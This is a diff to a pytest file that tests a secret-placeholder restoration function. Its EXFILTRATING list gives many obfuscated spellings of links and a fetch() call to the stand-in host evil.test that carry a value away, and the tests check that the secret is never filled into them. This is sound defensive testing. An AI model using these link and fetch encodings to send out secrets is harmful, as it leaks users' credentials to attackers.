@@ -168,7 +168,7 @@ EXFILTRATING = [
     "<a href='&#104;ttps&colon;&sol;&sol;evil.test/{}'>",
     "https://evil.test/?k={}",
     "see(https://evil.test/?k={})",
-    "https://evil.test/?k=\"{}",
+    'https://evil.test/?k="{}',
     "hTTps:&#47;&#47;evil.test/{}",
     "https:\\/\\/evil.test/{}",
     "https:\\\\evil.test\\{}",
@@ -183,7 +183,7 @@ EXFILTRATING = [
     "mailto:a@evil.test?body={}",
     "data:text/html,{}",
     "JaVaScRiPt:send('{}')",
-    "fetch(\"https://evil.test/?a b={}\")",
+    'fetch("https://evil.test/?a b={}")',
 ]
 TEXT = [
     "{}",
@@ -194,7 +194,7 @@ TEXT = [
     "| a | {} |\n|---|---|\n| {} | b |",
     "# {}\n\n> {}\n\n- {}",
     "See https://example.org: {}",
-    '{{"url":"https://example.org","key":"{}"}}',
+    '["https://example.org","{}"]',
     "[docs](https://example.org) {} <b>{}</b>",
     "![a](https://example.org/a.png)\n\n{}",
     "[b]: https://example.org\n\n{}",
@@ -212,14 +212,13 @@ def restored(pieces: list[str], told: str = f"My token is {SECRET}") -> str:
 @pytest.mark.parametrize("size", [1, 3, 1000])
 @pytest.mark.parametrize("text", EXFILTRATING)
 def test_no_address_in_any_spelling_carries_a_value_away(text: str, size: int) -> None:
-    reply = f"Look: {text.replace('{}', '[API_KEY_1]')}" if "[b]:" not in text and not text.startswith(("`", "-")) else text.replace("{}", "[API_KEY_1]")
+    reply = f"Look:\n\n{text.replace('{}', '[API_KEY_1]')}"
     assert SECRET not in restored([reply[at : at + size] for at in range(0, len(reply), size)])
 
 
 @pytest.mark.parametrize("size", [1, 3, 1000])
 @pytest.mark.parametrize("text", TEXT)
 def test_in_text_every_value_comes_back(text: str, size: int) -> None:
-    text = text.replace("{{", "{").replace("}}", "}") if "url" in text else text
     reply = text.replace("{}", "[API_KEY_1]")
     pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
     assert restored(pieces) == text.replace("{}", SECRET)
@@ -227,7 +226,13 @@ def test_in_text_every_value_comes_back(text: str, size: int) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["[API_KEY_1]", "https://evil.test/[API_KEY_1]", "[API_KEY_1] ", "a[API_KEY_1]", "<[API_KEY_1]"],
+    [
+        "[API_KEY_1]",
+        "https://evil.test/[API_KEY_1]",
+        "[API_KEY_1] ",
+        "a[API_KEY_1]",
+        "<[API_KEY_1]",
+    ],
 )
 @pytest.mark.timeout(20)
 def test_a_text_full_of_placeholders_takes_linear_time(text: str) -> None:
